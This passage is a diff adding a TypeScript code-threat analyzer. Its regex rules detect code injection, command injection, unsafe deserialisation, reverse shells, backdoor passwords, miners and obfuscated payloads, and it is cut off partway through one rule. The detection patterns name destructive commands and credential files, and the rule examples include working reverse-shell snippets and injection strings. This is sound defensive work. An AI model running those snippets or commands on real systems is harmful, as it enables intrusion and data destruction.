@@ -1,11 +1,623 @@
-import { plainContext } from '../context.js';
-import type { Analyzer } from '../types.js';
+import { decodeBase64Runs, metaString, normalizeUnicode } from '../normalize.js';
+import {
+  PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
+  type Probe,
+} from '../parse/code-payload.js';
+import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
 
-/** code analyzer (G): rule table pending. */
-const codeAnalyzer: Analyzer = {
+/** Source beyond this is not pattern-checked; the keyword prefilter still sees the capped text. */
+const MAX_CODE = 256 * 1024;
+
+/** code (G): the value is source code; metadata.language says which language when known. */
+export interface CodeContext extends BaseContext {
+  readonly language: string;
+  /** Printable payloads hidden in base64 runs, decoded (bounded count). */
+  readonly decoded: readonly string[];
+  /** Variables assigned straight from an untrusted source (`cmd = request.args.get("c")`), bounded. */
+  readonly tainted: readonly string[];
+}
+
+const CR = /\r\n?/g;
+
+function prepare(value: string, metadata: Metadata): CodeContext {
+  let text = value.length > MAX_CODE ? value.slice(0, MAX_CODE) : value;
+  text = normalizeUnicode(text).replace(CR, '\n');
+  const language = (metaString(metadata, 'language', 'lang', 'languageId', 'runtime') ?? '').toLowerCase();
+  const decoded = text.length >= 24 ? decodeBase64Runs(text, 4, 32768) : [];
+  return { raw: value, text, lower: text.toLowerCase(), metadata, language, decoded, tainted: taintedNames(text) };
+}
+
+/** Untrusted input: web request fields, CLI args, stdin, DOM sources. */
+/** Untrusted input: web request fields, CLI args, stdin, DOM sources (split so each part is provably linear). */
+const SOURCES: readonly RegExp[] = [
+  /\breq(?:uest)?\s{0,2}(?:\.|\[|->)\s{0,2}(?:query|body|params|param|args|form|values|json|data|get_json|get_data|stream|files|cookies|headers|input|get|post|getparameter|querystring|url|path|raw_post_data|content)\b/i,
+  /\$_(?:get|post|request|cookie|server|files)\b|\b(?:raw_)?input\s{0,2}\(|\bsys\.(?:argv|stdin)\b|\bprocess\.(?:argv|stdin)\b|\bgetparameter\s{0,2}\(|location\.(?:hash|search|href)|document\.cookie|\buser_?input\b|\buntrusted/i,
+  /\bparams\s{0,2}(?:\[|\.)|\bctx\.(?:query|request|params)\b|event\s{0,2}\[\s{0,2}["'](?:body|querystringparameters)|\bsearchparams\.get\s{0,2}\(|\bc\.(?:query|param|formvalue)\s{0,2}\(|\br\.(?:formvalue|url\.query)\b|request\.getinputstream|\.recv\s{0,2}\(|\bsocket\.getinputstream/i,
+];
+const isSource = (s: string): boolean => SOURCES.some((re) => re.test(s));
+/** The rest of the statement: up to the first ';' or newline. */
+function statement(w: string, max = 160): string {
+  let end = Math.min(w.length, max);
+  const semi = w.indexOf(';');
+  const nl = w.indexOf('\n');
+  if (semi !== -1 && semi < end) end = semi;
+  if (nl !== -1 && nl < end) end = nl;
+  return w.slice(0, end);
+}
+const sourceInStatement = (w: string): boolean => isSource(statement(w));
+
+const MAX_TAINT_SCAN = 64 * 1024;
+
+function isIdentCode(c: number): boolean {
+  return (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57) || c === 95 || c === 36;
+}
+
+/** Names assigned from an untrusted source; walks '=' signs (not ==, =>, <=, >=, !=) back to their identifier. */
+function taintedNames(text: string): string[] {
+  const out: string[] = [];
+  const t = text.length > MAX_TAINT_SCAN ? text.slice(0, MAX_TAINT_SCAN) : text;
+  let i = t.indexOf('=');
+  let n = 0;
+  while (i !== -1 && out.length < 16 && n++ < 400) {
+    const next = t.charCodeAt(i + 1);
+    const prev = t.charCodeAt(i - 1);
+    if (next !== 61 && next !== 62 && next !== 126 && prev !== 61 && prev !== 33 && prev !== 60 && prev !== 62) {
+      let e = i - 1;
+      while (e >= 0 && i - e <= 4 && (t.charCodeAt(e) === 32 || t.charCodeAt(e) === 9)) e--;
+      let b = e;
+      while (b >= 0 && e - b < 40 && isIdentCode(t.charCodeAt(b))) b--;
+      if (b < e) {
+        const name = t.slice(b + 1, e + 1);
+        if (isSource(statement(t.slice(i + 1, i + 201)))) out.push(name);
+      }
+    }
+    i = t.indexOf('=', i + 1);
+  }
+  return out;
+}
+
+const isIdentChar = (c: string | undefined) => c !== undefined && isIdentCode(c.charCodeAt(0));
+/** A tainted variable used as a whole word in the statement. */
+function hasTainted(st: string, names: readonly string[]): boolean {
+  for (const name of names) {
+    let i = st.indexOf(name);
+    let k = 0;
+    while (i !== -1 && k++ < 8) {
+      if (!isIdentChar(st[i - 1]) && !isIdentChar(st[i + name.length]) && st[i - 1] !== '.') return true;
+      i = st.indexOf(name, i + name.length);
+    }
+  }
+  return false;
+}
+
+/** Sink probes: untrusted input directly in the call, or a tainted variable. */
+function sinkHit(ctx: CodeContext, probes: readonly Probe[]): boolean {
+  if (probes.some((p) => probe(ctx.text, p))) return true;
+  if (ctx.tainted.length === 0) return false;
+  const names = ctx.tainted;
+  return probes.some((p) => probe(ctx.text, { a: p.a, f: (w) => hasTainted(statement(w), names), label: p.label, window: p.window }));
+}
+
+const EVAL_SINK: Probe = {
+  a: /(?<![.\w$])(?:eval|exec|execfile|compile|instance_eval|class_eval|module_eval|create_function|assert)\s{0,4}\(|\bnew\s{1,4}function\s{0,4}\(|\bvm\.run(?:in(?:new|this)?context)?\s{0,4}\(|\.eval\s{0,4}\(|\bsettimeout\s{0,4}\(\s{0,4}(?=["'`]|req)/gi,
+  f: sourceInStatement,
+  label: 'code injection',
+  window: 200,
+};
+const SHELL_SINKS: readonly Probe[] = [
+  { a: /\b(?:execsync|spawnsync|execfile|execfilesync|shell_exec|passthru|proc_open|popen|pcntl_exec|processbuilder|execa|execacommand)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
+  { a: /\b(?:os\.system|os\.popen|subprocess\.[a-z_]{3,20}|commands\.getoutput|process\.start|kernel\.system|open3\.[a-z0-9_]{1,20}|child_process\.[a-z]{4,12}|cp\.(?:exec|spawn)|shelljs\.exec)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
+  { a: /runtime\.getruntime\(\)\.exec\s{0,4}\(|(?<![.\w$])(?:exec|system|spawn)\s{0,4}\(|%x\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
+  { a: /["']child_process["']\s{0,4}\)\s{0,4}\.\s{0,4}(?:exec|spawn)[a-z]{0,4}\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 200 },
+  { a: /\bexec\.command(?:context)?\s{0,4}\(|\bcommand::new\s{0,4}\(|\bproc\.(?:exec|spawn)\s{0,4}\(/gi, f: sourceInStatement, label: 'command injection', window: 240 },
+];
+const CONCAT_AFTER_STRING = /["'`]\s{0,4}(?:\+|\.|%)\s{0,4}[\w$(]/;
+const FORMAT_CALL = /\.format\s{0,4}\(/;
+const VAR_THEN_PLUS = /^\s{0,4}[a-z_$][\w.]{0,60}\s{0,4}\+/i;
+const VAR_FIRST_ARG = /^\s{0,4}[a-z_$][\w.]{0,60}\s{0,4},/i;
+const SHELL_TRUE = /shell\s{0,4}=\s{0,4}true/i;
+function dynamicArg(w: string): boolean {
+  const st = statement(w, 300);
+  const lead = st.trimStart();
+  if (lead.startsWith('f"') || lead.startsWith("f'")) return true;
+  if (lead.startsWith('`') && st.includes('${')) return true;
+  if (CONCAT_AFTER_STRING.test(st) || FORMAT_CALL.test(st) || VAR_THEN_PLUS.test(st)) return true;
+  return VAR_FIRST_ARG.test(st) && SHELL_TRUE.test(st);
+}
+const DYNAMIC_SHELLS: readonly Probe[] = [
+  { a: /\b(?:os\.system|os\.popen|subprocess\.[a-z_]{3,20}|execsync|child_process\.exec|shell_exec|passthru)\s{0,4}\(/gi, f: dynamicArg, label: 'shell command built from variables', window: 300 },
+  { a: /(?<![.\w$])(?:exec|system)\s{0,4}\((?=\s{0,4}[`"'])/gi, f: dynamicArg, label: 'shell command built from variables', window: 300 },
+];
+
+const PICKLE = /\b(?:c?pickle|_pickle|dill|jsonpickle|marshal|shelve|joblib|torch)\.(loads?|decode|unpickler|open)\s{0,4}\(/gi;
+const YAML_LOAD = /\byaml\.(?:load|load_all|unsafe_load|unsafe_load_all)\s{0,4}\(/gi;
+const YAML_SAFE_LOADER = /^[^\n]{0,200}loader\s{0,4}=\s{0,4}(?:yaml\.)?c?safeloader\b/i;
+const JAVA_OIS = /\bnew\s{1,4}objectinputstream\s{0,4}\(|\bnew\s{1,4}xmldecoder\s{0,4}\(|\bxstream\s{0,4}\(\s{0,4}\)\s{0,4}\.fromxml|\.readobject\s{0,4}\(\s{0,4}\)/gi;
+const DOTNET_DESER = /\b(?:binaryformatter|losformatter|netdatacontractserializer|soapformatter|objectstateformatter)\b|typenamehandling\s{0,4}=\s{0,4}typenamehandling\.(?:all|auto|objects)/i;
+const PHP_UNSERIALIZE = /(?<![.\w$])unserialize\s{0,4}\(/gi;
+const PHP_ALLOWED_FALSE = /^[^\n]{0,200}allowed_classes["']?\s{0,4}=>\s{0,4}false/i;
+const NODE_SERIALIZE = /require\s{0,4}\(\s{0,4}["'](?:node-serialize|funcster|cryo)["']\s{0,4}\)/i;
+const RUBY_MARSHAL = /\bmarshal\.load\s{0,4}\(|\bobjectspace\b/gi;
+
+const CRED_CHECKS: readonly RegExp[] = [
+  /(?:pass(?:word|wd|code|phrase)?|pwd|\bpw|token|secret|api_?key|auth_?key|master_?key)\s{0,4}(?:===?|\.equals\s{0,4}\(|\s{1,4}is\s)\s{0,4}["']([^"'\n]{3,64})["']/gi,
+  /["']([^"'\n]{3,64})["']\s{0,4}===?\s{0,4}(?:password|passwd|pwd|token|secret|api_?key)\b/gi,
+];
+const BACKDOOR_WORD = /backdoor|master|god|bypass|skeleton|debug|letmein|override|superuser|h4x|secret_?admin/i;
+const NOT_CREDENTIAL = /^(?:undefined|null|none|true|false|nil|string|object|bearer|basic|password|token|secret|\*+)$/i;
+const PRIV_GRANT: Probe = {
+  a: /\breq(?:uest)?\s{0,2}(?:\.|\[|->)\s{0,2}(?:query|headers|cookies|params|args|get)\b|\$_(?:get|cookie|request)\b/gi,
+  t: /^[^]{0,200}?\b(?:is_?admin|is_?superuser|issuperuser|is_?staff|role|privileges?|access_?level)\s{0,4}(?:=|:)\s{0,4}(?:true|1\b|["'](?:admin|root|superuser)["'])/i,
+  label: 'request parameter grants admin',
+  window: 260,
+};
+
+const TLS_OFF: readonly RegExp[] = [
+  /\bverify\s{0,2}=\s{0,2}false\b|rejectunauthorized["']?\s{0,4}:\s{0,4}false/i,
+  /node_tls_reject_unauthorized["']?\s{0,4}(?:\]\s{0,4})?[=:]\s{0,4}["']?0/i,
+  /insecureskipverify\s{0,4}:\s{0,4}true|ssl\._create_unverified_context|\bcert_none\b|check_hostname\s{0,4}=\s{0,4}false/i,
+  /curlopt_ssl_verify(?:peer|host)\s{0,4},\s{0,4}(?:0|false)|servercertificatevalidationcallback\s{0,4}\+?=/i,
+  /verify_mode\s{0,4}=\s{0,4}openssl::ssl::verify_none|\bstrictssl["']?\s{0,4}:\s{0,4}false|trustallcerts|accept_?all_?certs/i,
+  /danger_accept_invalid_certs\s{0,4}\(\s{0,4}true|setdefaulthostnameverifier|sslverify["']?\s{0,4}(?:=>|=|:)\s{0,4}false/i,
+];
+
+const KEYHOOK = /\bpynput\b|\bkeyboard\.(?:on_press|on_release|hook|read_key|record)\b|getasynckeystate|setwindowshookex[a-z]{0,2}\s{0,4}\([^)]{0,10}wh_keyboard|\bwh_keyboard_ll\b|\biohook\b|cgeventtapcreate|\/dev\/input\/event|xinput\s{1,4}test/i;
+const DOM_KEYS = /addeventlistener\s{0,4}\(\s{0,4}["']key(?:down|press|up)["']|\.onkey(?:down|press|up)\s{0,4}=/i;
+const SCREEN = /imagegrab\.grab|pyautogui\.screenshot|\bmss\s{0,4}\(\s{0,4}\)|copyfromscreen|getdisplaymedia|\bscreencapture\b|screenshot-desktop|desktopcapturer/i;
+const NETWORK = /requests\.(?:post|put)|urllib\.request|urlopen|smtplib|ftplib|\bfetch\s{0,4}\(|xmlhttprequest|sendbeacon|axios\.(?:post|put)|https?\.request|\.send\s{0,4}\(|socket\.(?:send|connect)|webhook|api\.telegram\.org|new\s{1,4}image\s{0,4}\(\s{0,4}\)\.src|\bcurl\b|\bwget\b|net\.webclient|uploadfile|s3\.upload|put_object/i;
+const PASSWORD_FIELD = /type\s{0,2}=\s{0,2}["']password|input\[type=password\]|password/i;
+
+const BROWSER_SECRET = /document\.cookie|localstorage\.getitem|localstorage\[|sessionstorage\.getitem/i;
+const BROWSER_SEND: Probe = {
+  a: /\bfetch\s{0,4}\(|\.src\s{0,4}=|sendbeacon\s{0,4}\(|\.open\s{0,4}\(|\blocation(?:\.href)?\s{0,4}=|axios\.(?:get|post)\s{0,4}\(|\$\.(?:get|post|ajax)\s{0,4}\(/gi,
+  f: (w) => BROWSER_SECRET.test(statement(w, 300)),
+  label: 'browser cookies/storage sent to a server',
+  window: 300,
+};
+const CRED_FILE = /["'/~](?:\.ssh\/id_[a-z0-9]{2,10}|\.aws\/credentials|etc\/shadow|\.git-credentials|\.npmrc|\.kube\/config|\.docker\/config\.json|\.netrc|login data|logins\.json|key4\.db|wallet\.dat|\.env)["'\s)]|\/(?:\.ssh|\.aws|\.gnupg)["'/]/i;
+
+const DESTRUCT: readonly RegExp[] = [
+  /\b(?:rmtree|rmsync|rmdirsync|rimraf(?:\.sync)?|rm_rf|rm_r|remove_dir_all|removeall|directory\.delete|fs\.rm|fs\.rmdir|fs\.promises\.rm|deletedirectory|forcedelete|deletequietly|fileutils\.rm_rf)\s{0,4}\(\s{0,4}@?["'`](?:\/|\/\*|~\/?|[a-z]:[\\/]{0,2}|\/(?:home|etc|usr|var|bin|boot|root|users?|opt|srv|lib)\/?|\$home\/?|%userprofile%\\?)["'`]/i,
+  /\b(?:rmtree|rmsync|rimraf|rm_rf|removeall|fs\.rm)\s{0,4}\(\s{0,4}(?:os\.path\.expanduser\s{0,4}\(\s{0,4}["']~\/?["']\s{0,4}\)|path\.home\s{0,4}\(\s{0,4}\)|(?:\bos|require\s{0,4}\(\s{0,4}["'](?:node:)?os["']\s{0,4}\))\.homedir\s{0,4}\(\s{0,4}\)|os\.environ\s{0,4}\[\s{0,4}["']home["']\s{0,4}\]|process\.env\.home)\s{0,4}[,)]/i,
+  /\brm\s{1,4}(?:-[a-z]{1,6}\s{1,4}){1,3}(?:--no-preserve-root\s{1,4})?(?:\/\*?|~\/?\*?|\$home\/?\*?|\/(?:home|etc|usr|var|boot|root)\/?)(?=["'`;\s)&|]|$)/i,
+  /\bos\.walk\s{0,4}\(\s{0,4}["'](?:\/|[a-z]:\\{1,2}|~)["']\s{0,4}\)/i,
+  /\bformat\s{1,4}[a-z]:\s{0,4}\/[yq]|\bmkfs(?:\.[a-z0-9]{2,6})?\s{1,4}\/dev\//i,
+  /\bdd\s{1,4}if=\/dev\/(?:zero|urandom|random)\s{1,4}of=\/dev\/(?:sd|nvme|hd|vd|xvd|disk)/i,
+  /\bcipher\s{1,4}\/w:|vssadmin(?:\.exe)?\s{1,4}delete\s{1,4}shadows|wmic\s{1,4}shadowcopy\s{1,4}delete/i,
+  /bcdedit\s{1,4}\/set\s{1,4}\{default\}\s{1,4}recoveryenabled\s{1,4}no/i,
+];
+const WALK_DELETE = /os\.remove|os\.unlink|\.unlink\s{0,4}\(|shutil\.rmtree|encrypt/i;
+
+const REMOTE_FETCH = /^[^;\n]{0,80}?(?:requests\.get|urlopen|\bfetch\s{0,4}\(|axios\.get|https?\.get|\bgot\s{0,4}\(|httpx\.get|net::http|uri\.open|invoke-webrequest|\biwr\b|downloadstring|net\.webclient|\.text\s{0,4}\(\s{0,4}\))/i;
+const REMOTE_EXECS: readonly Probe[] = [
+  { a: /(?<![.\w$])(?:exec|eval)\s{0,4}\(|\bnew\s{1,4}function\s{0,4}\(/gi, t: REMOTE_FETCH, label: 'remote code executed', window: 160 },
+  { a: /\bvm\.run[a-z]{0,20}\s{0,4}\(|\b(?:iex|invoke-expression)\b/gi, t: REMOTE_FETCH, label: 'remote code executed', window: 160 },
+  { a: /\b(?:require|import)\s{0,4}\(\s{0,4}["']https?:\/\//gi, label: 'remote module imported' },
+];
+
+const AUTORUN_WRITE: Probe = {
+  a: /\b(?:open|writefile(?:sync)?|appendfile(?:sync)?|write_text|fopen|file_put_contents|createwritestream|copyfile(?:sync)?|shutil\.copy2?|setvalueex|setvalue|reg\s{1,4}add|new-itemproperty|set-itemproperty|file\.write|io\.write|file\.open|path)\b/gi,
+  t: /^[^\n]{0,160}?(?:authorized_keys|\.bashrc|\.zshrc|\.bash_profile|\.profile["']|\/etc\/cron|\/var\/spool\/cron|\/etc\/systemd\/system|launchagents|launchdaemons|currentversion\\{1,2}run|currentversion\/run|programs\\{1,2}startup|programs\/startup|\/etc\/rc\.local|ld\.so\.preload|\.git\/hooks\/|\/etc\/sudoers)/i,
+  label: 'writes an autorun location',
+  window: 200,
+};
+const CRONTAB_PIPE = /crontab\s{1,4}-l[^\n]{0,10}\||\|\s{0,4}crontab\s{1,4}-(?:\s|["'`)]|$)|schtasks(?:\.exe)?\s{1,4}\/create|systemctl\s{1,4}enable\s{1,4}--now/i;
+
+const SQL_START = /(?:\bf|\$)?["'`]\s{0,4}(?:select|insert|update|delete|replace|merge)\s/gi;
+const SQL_INTERP: readonly RegExp[] = [
+  /["'`]\s{0,4}(?:\+|\.|\|\|)\s{0,4}\$?[a-z_(]/i,
+  /\$\{|\{[a-z_][a-z0-9_.]{0,40}[}[]/i,
+  /["']\s{0,4}%\s{0,4}[(a-z_]|\.format\s{0,4}\(/i,
+  /\$_(?:get|post|request)|'\s{0,2}\$[a-z_]|"\s{0,2}&\s{0,2}[a-z_]/i,
+];
+/** printf-style builders in front of the SQL literal (Go fmt.Sprintf, C# String.Format, PHP sprintf). */
+const SQL_FORMATTER = /(?:sprintf|string\.format|format!?)\s{0,4}\(\s{0,4}$/;
+function lineOf(w: string, max: number): string {
+  const nl = w.indexOf('\n');
+  return w.slice(0, nl === -1 ? max : Math.min(nl, max));
+}
+/** The statement after the keyword has SQL structure (SELECT … FROM, INSERT INTO, UPDATE … SET, DELETE FROM). */
+function sqlShaped(head: string, rest: string): boolean {
+  if (head.includes('select')) return rest.includes(' from ') || rest.includes('from ');
+  if (head.includes('update')) return rest.includes(' set ');
+  if (head.includes('delete')) return rest.startsWith('from ') || rest.includes(' from ');
+  return rest.includes('into ');
+}
+
+const OBFUSCATED_CHARS: Probe = {
+  a: /\b(?:eval|exec|function)\s{0,4}\(/gi,
+  t: /^[^\n]{0,40}?(?:(?:\\x[0-9a-f]{2}){8}|(?:\\u[0-9a-f]{4}){8}|(?:chr\s{0,2}\(\s{0,2}[0-9]{2,3}\s{0,2}\)\s{0,2}\+\s{0,2}){6}|["'][a-z0-9+/]{200}|\[::-1\]|\.reverse\(\)\.join|unescape\s{0,2}\(|decodeuricomponent\s{0,2}\(\s{0,2}["']%)/i,
+  label: 'eval of an encoded string',
+  window: 400,
+};
+const CHARCODE_CHAIN = /(?:chr\s{0,2}\(\s{0,2}[0-9]{2,3}\s{0,2}\)\s{0,2}\+\s{0,2}){8}|string\.fromcharcode\s{0,2}\((?:\s{0,2}[0-9]{2,3}\s{0,2},){12}/i;
+const CHARCODE_EXEC = /\b(?:eval|exec|system|function|os\.system|document\.write)\b/i;
+
+const SHELLISH = /\b(?:sh|bash|cmd|powershell)\b|\/bin\/|socket|subprocess|child_process|system\s{0,2}\(|popen|spawn|eval|exec|curl|wget|\/dev\/tcp|invoke-expression|iex/i;
+
+function windowAfter(s: string, re: RegExp, tail: (w: string) => boolean, window = 240): RegExpExecArray | null {
+  re.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let n = 0;
+  while (n++ < 64 && (m = re.exec(s)) !== null) {
+    const from = m.index + m[0].length;
+    if (tail(s.slice(from, from + window))) { re.lastIndex = 0; return m; }
+  }
+  re.lastIndex = 0;
+  return null;
+}
+
+function firstMatch(s: string, re: RegExp): RegExpExecArray | null {
+  re.lastIndex = 0;
+  const m = re.exec(s);
+  re.lastIndex = 0;
+  return m;
+}
+
+function deserialization(ctx: CodeContext): Finding | null {
+  const t = ctx.text;
+  let m = windowAfter(t, PICKLE, sourceInStatement);
+  if (m) return { detail: `${m[0].replace(/\s|\(/g, '')} on untrusted input`, score: 9 };
+  PICKLE.lastIndex = 0;
+  let best: Finding | null = null;
+  let k = 0;
+  while (k++ < 32 && (m = PICKLE.exec(t)) !== null) {
+    const fn = m[1]!.toLowerCase();
+    const lib = m[0].slice(0, m[0].indexOf('.')).toLowerCase();
+    if (fn === 'loads' || fn === 'unpickler' || fn === 'decode') {
+      if (lib === 'marshal' || lib === 'torch') continue;
+      best = { detail: `${lib}.${fn}() of bytes whose origin is not shown`, score: 4 };
+    }
+  }
+  PICKLE.lastIndex = 0;
+  if (best) return best;
+  YAML_LOAD.lastIndex = 0;
+  while (k++ < 64 && (m = YAML_LOAD.exec(t)) !== null) {
+    const after = t.slice(m.index + m[0].length, m.index + m[0].length + 220);
+    if (!m[0].toLowerCase().includes('unsafe') && YAML_SAFE_LOADER.test(after)) continue;
+    YAML_LOAD.lastIndex = 0;
+    return sourceInStatement(after) ? { detail: 'yaml.load on untrusted input without SafeLoader', score: 8 } : { detail: 'yaml.load without SafeLoader', score: 5 };
+  }
+  YAML_LOAD.lastIndex = 0;
+  m = firstMatch(t, JAVA_OIS);
+  if (m) {
+    const near = /getinputstream|socket|request|readobject/i.test(t);
+    return near ? { detail: 'Java ObjectInputStream/XMLDecoder on a stream', score: 7 } : { detail: 'Java native deserialisation', score: 5 };
+  }
+  if (DOTNET_DESER.test(t)) return { detail: '.NET type-embedding deserialiser (BinaryFormatter/TypeNameHandling)', score: 6 };
+  m = windowAfter(t, PHP_UNSERIALIZE, sourceInStatement);
+  if (m) return { detail: 'PHP unserialize() of request data', score: 9 };
+  m = firstMatch(t, PHP_UNSERIALIZE);
+  if (m) {
+    const after = t.slice(m.index + m[0].length, m.index + m[0].length + 220);
+    if (!PHP_ALLOWED_FALSE.test(after) && !NODE_SERIALIZE.test(t) && ctx.language !== 'javascript' && ctx.language !== 'typescript') return { detail: 'PHP unserialize() of data whose origin is not shown', score: 4 };
+  }
+  if (NODE_SERIALIZE.test(t) && /\.unserialize\s{0,4}\(/i.test(t)) return { detail: 'node-serialize unserialize() (executes embedded functions)', score: isSource(t) ? 9 : 6 };
+  m = windowAfter(t, RUBY_MARSHAL, sourceInStatement);
+  if (m) return { detail: 'Ruby Marshal.load of request data', score: 9 };
+  return null;
+}
+
+const rules: ThreatRule<CodeContext>[] = [
+  {
+    id: 'G01',
+    name: 'Code injection: eval/exec of untrusted input',
+    primitive: 'ESCALATION',
+    score: 9,
+    keywords: ['eval', 'exec', 'compile', 'function', 'vm.run', 'create_function', 'assert', 'settimeout'],
+    detect: (ctx) => (sinkHit(ctx, [EVAL_SINK]) ? 'dynamic code evaluation of request/user input' : null),
+    examples: {
+      flag: ['result = eval(request.args.get("expr"))', 'exec(input("cmd> "))', 'const fn = new Function(req.body.code); fn();', '<?php eval($_POST["c"]); ?>'],
+      pass: ['const data = JSON.parse(req.body);', 'value = ast.literal_eval(user_input)', 'const m = /^[0-9]+$/.exec(req.query.id);', 'if (node.callee.name === "eval") context.report(node, "no eval");'],
+    },
+  },
+  {
+    id: 'G02',
+    name: 'Command injection: shell call built from untrusted input',
+    primitive: 'ESCALATION',
+    score: 8,
+    keywords: ['exec', 'spawn', 'system', 'popen', 'subprocess', 'passthru', 'proc_open', 'processbuilder', 'process.start', 'open3', '%x(', '#{', 'command::new'],
+    detect: (ctx) => (sinkHit(ctx, SHELL_SINKS) ? 'shell/process call receives request or user input' : null),
+    examples: {
+      flag: ['os.system("ping -c 1 " + request.args["host"])', 'exec(`convert ${req.query.file} out.png`)', 'subprocess.run(f"tar xf {sys.argv[1]}", shell=True)', 'Runtime.getRuntime().exec(request.getParameter("cmd"));'],
+      pass: ['subprocess.run(["ls", "-l"], check=True)', 'execFileSync("git", ["status"])', 'const r = pattern.exec(req.query.q);'],
+    },
+  },
+  {
+    id: 'G03',
+    name: 'Shell command assembled from variables',
+    primitive: 'ESCALATION',
+    score: 4,
+    keywords: ['system', 'popen', 'subprocess', 'execsync', 'exec', 'shell_exec', 'passthru'],
+    detect: (ctx) => (DYNAMIC_SHELLS.some((p) => probe(ctx.text, p)) ? 'command string built by interpolation/concatenation (injection-prone)' : null),
+    examples: {
+      flag: ['subprocess.call("rm -rf " + path, shell=True)', 'os.system(f"git clone {repo_url}")', 'execSync(`docker build -t ${tag} .`)'],
+      pass: ['os.system("clear")', 'subprocess.run(["git", "clone", repo_url])', 'execSync("npm run build")'],
+    },
+  },
+  {
+    id: 'G04',
+    name: 'Unsafe deserialisation',
+    primitive: 'ESCALATION',
+    score: 8,
+    keywords: ['pickle', 'dill', 'marshal', 'shelve', 'joblib', 'yaml.', 'objectinputstream', 'xmldecoder', 'xstream', 'readobject', 'binaryformatter', 'losformatter', 'netdatacontractserializer', 'soapformatter', 'objectstateformatter', 'typenamehandling', 'unserialize'],
+    detect: (ctx) => deserialization(ctx),
+    examples: {
+      flag: ['obj = pickle.loads(request.data)', 'cfg = yaml.load(open("c.yml"))', '$u = unserialize($_COOKIE["user"]);', 'ObjectInputStream in = new ObjectInputStream(socket.getInputStream()); in.readObject();'],
+      pass: ['cfg = yaml.safe_load(f)', 'cfg = yaml.load(f, Loader=yaml.SafeLoader)', 'model = pickle.load(open("model.pkl", "rb"))', 'data = json.loads(request.data)'],
+    },
+  },
+  {
+    id: 'G05',
+    name: 'Reverse shell',
+    primitive: 'ESCALATION',
+    score: 10,
+    keywords: ['/dev/tcp', '/dev/udp', 'nc ', 'ncat', 'nc.exe', 'mkfifo', 'dup2', 'pty.spawn', 'socat', 'tcpclient', 'socket', 'spawn', 'sh -i'],
+    detect: (ctx) => reverseShell(ctx.text),
+    examples: {
+      flag: [
+        'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/bash")',
+        'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.1.1.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});',
+        '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.2",443);$stream = $client.GetStream();',
+      ],
+      pass: ['server = socket.socket(); server.bind(("0.0.0.0", 8000)); server.listen()', 'const child = spawn("node", ["worker.js"]);'],
+    },
+  },
+  {
+    id: 'G06',
+    name: 'Backdoor: hard-coded credential or hidden privilege grant',
+    primitive: 'PERSISTENCE',
+    score: 6,
+    keywords: ['password', 'passwd', 'pwd', 'pw ', 'pw=', 'pass', 'token', 'secret', 'api_key', 'apikey', 'auth_key', 'master', 'admin', 'superuser', 'role', 'privilege', 'access_level', 'staff'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      if (probe(t, PRIV_GRANT)) return { detail: 'request parameter grants admin privileges', score: 8 };
+      for (const CRED_CHECK of CRED_CHECKS) {
+      CRED_CHECK.lastIndex = 0;
+      let m: RegExpExecArray | null;
+      let n = 0;
+      while (n++ < 32 && (m = CRED_CHECK.exec(t)) !== null) {
+        const lit = m[1] ?? '';
+        if (NOT_CREDENTIAL.test(lit)) continue;
+        CRED_CHECK.lastIndex = 0;
+        const ctxLine = t.slice(Math.max(0, m.index - 80), m.index + m[0].length + 40);
+        if (BACKDOOR_WORD.test(lit) || (ctxLine.includes('||') || / or /.test(ctxLine))) return { detail: 'hard-coded master password bypasses the normal check', score: 8 };
+        return 'credential compared against a hard-coded literal';
+      }
+      CRED_CHECK.lastIndex = 0;
+      }
+      return null;
+    },
+    examples: {
+      flag: ['if (user.checkPassword(pw) || pw === "letmein-2024") { login(user); }', 'if password == "Sup3rS3cret!":\n    grant_access()', 'if (req.query.debug === "1") { req.user.isAdmin = true; }'],
+      pass: ['if (await bcrypt.compare(password, user.hash)) login(user);', 'if (token === undefined) throw new Error("missing")', 'if (typeof password === "string") validate(password);'],
+    },
+  },
+  {
+    id: 'G07',
+    name: 'Cryptocurrency miner',
+    primitive: 'MANIPULATION',
+    score: 9,
+    keywords: ['stratum+', 'xmrig', 'coinhive', 'coin-hive', 'cryptonight', 'minexmr', 'nanopool', 'supportxmr', 'moneroocean', 'hashvault', 'c3pool', 'webminepool', 'cryptoloot', 'jsecoin', 'donate-level', 'nicehash', '2miners', 'f2pool', 'ethermine'],
+    detect: (ctx) => {
+      const m = miner(ctx.text);
+      return m ? `mining pool or miner reference (${m})` : null;
+    },
+    examples: {
+      flag: ['const miner = new CoinHive.Anonymous("SITE_KEY"); miner.start();', 'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444", "-u", wallet])'],
+      pass: ['// mine the logs for errors\nconst errors = logs.filter(isError);', 'const hashrate = computeHashrate(samples);'],
+    },
+  },
+  {
+    id: 'G08',
+    name: 'Obfuscated payload decoded and executed',
+    primitive: 'MANIPULATION',
+    score: 8,
+    keywords: ['atob', 'base64', 'fromhex', 'unhexlify', 'b64decode', 'fromcharcode', 'chr(', 'gzinflate', 'gzuncompress', 'str_rot13', 'frombase64string', '-enc', 'p,a,c,k,e', '\\x', '\\u', 'unescape', 'decompress', 'marshal', 'codecs', 'eval', 'exec'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const d = decodeExec(t);
+      if (d) return d;
+      if (probe(t, OBFUSCATED_CHARS)) return 'eval/exec of an escaped or encoded string';
+      if (CHARCODE_CHAIN.test(t) && CHARCODE_EXEC.test(t)) return { detail: 'character-code chain feeding eval/exec', score: 7 };
+      for (const dec of ctx.decoded) {
